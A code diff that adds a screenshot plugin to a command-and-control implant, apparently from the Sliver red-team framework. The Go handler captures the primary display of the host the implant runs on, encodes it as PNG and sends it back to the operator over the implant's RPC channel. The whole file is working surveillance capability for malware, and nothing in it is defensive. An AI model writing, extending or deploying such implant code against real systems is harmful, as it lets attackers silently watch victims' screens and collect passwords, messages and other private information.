@@ -0,0 +1,51 @@
+package main
+
+// screenshot.go is staged into the implant's source tree by the "screenshot"
+// plugin (see plugins/screenshot/main.go) and registered against
+// sliverpb.MsgScreenshotReq alongside the built-in handlers in handlers.go.
+
+import (
+	"bytes"
+	"image/png"
+	"log"
+
+	"github.com/golang/protobuf/proto"
+	"github.com/kbinani/screenshot"
+
+	sliverpb "sliver/protobuf/sliver"
+)
+
+// screenshotHandler - Captures the primary display and replies with PNG bytes
+func screenshotHandler(data []byte, resp RPCResponse) {
+	screenshotReq := &sliverpb.ScreenshotReq{}
+	if err := proto.Unmarshal(data, screenshotReq); err != nil {
+		log.Printf("Failed to decode screenshot request: %v", err)
+		return
+	}
+
+	img, err := screenshot.CaptureDisplay(0)
+	screenshotResp := &sliverpb.Screenshot{}
+	if err != nil {
+		screenshotResp.Err = err.Error()
+	} else {
+		var buf bytes.Buffer
+		if err := png.Encode(&buf, img); err != nil {
+			screenshotResp.Err = err.Error()
+		} else {
+			screenshotResp.Data = buf.Bytes()
+		}
+	}
+
+	respData, err := proto.Marshal(screenshotResp)
+	if err != nil {
+		log.Printf("Failed to encode screenshot response: %v", err)
+		return
+	}
+	resp(respData, nil)
+}
+
+func init() {
+	// handlers.go's init-time registration table is extended here rather
+	// than edited directly, same pattern the built-in handlers follow
+	registerHandler(sliverpb.MsgScreenshotReq, screenshotHandler)
+}